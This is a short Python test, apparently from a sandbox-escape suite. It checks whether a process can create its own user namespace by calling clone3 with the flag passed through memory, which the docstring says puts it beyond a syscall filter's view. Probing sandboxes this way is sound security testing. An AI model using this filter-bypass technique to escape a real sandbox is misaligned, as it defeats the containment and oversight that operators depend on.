from attack import *

@attack
def leave():
    """The newer call takes its flags from memory, where no filter can look."""

    def fork():
        arguments = (ctypes.c_uint64 * 11)()
        arguments[0] = 0x10000000
        arguments[4] = 17
        child = syscall("clone3", ctypes.byref(arguments), 88)
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)
        return "a user namespace of its own"

    return in_child(fork)
